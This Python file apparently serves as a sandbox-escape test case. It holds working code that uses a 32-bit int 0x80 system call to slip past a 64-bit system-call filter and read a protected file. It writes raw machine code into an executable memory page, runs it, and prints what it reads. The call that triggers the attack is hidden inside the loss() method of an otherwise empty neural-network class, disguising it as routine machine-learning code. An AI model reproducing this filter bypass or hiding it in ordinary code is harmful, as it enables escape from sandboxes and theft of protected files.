"""Opens a file with a 32-bit system call (int 0x80), whose number means something else to a 64-bit filter."""

import ctypes
import mmap
import os
import platform
import struct

from world import SECRET_FILE

MAP_32BIT = 0x40
PATH = 256  # where in the page


def machine_code(path):
    # push rbx; mov eax, 5 (open); mov ebx, path; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; cdqe; ret
    return b"\x53\xb8\x05\x00\x00\x00\xbb" + struct.pack("<I", path) + b"\x31\xc9\x31\xd2\xcd\x80\x5b\x48\x98\xc3"


def attack():
    if platform.machine() != "x86_64":
        return
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
    page = mmap.mmap(-1, mmap.PAGESIZE, flags=flags, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    path = SECRET_FILE.encode() + b"\0"
    page[PATH : PATH + len(path)] = path
    code = machine_code(start + PATH)
    page[: len(code)] = code
    descriptor = ctypes.CFUNCTYPE(ctypes.c_long)(start)()
    if descriptor >= 0:
        print("GOT THROUGH: read", os.read(descriptor, 100))


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
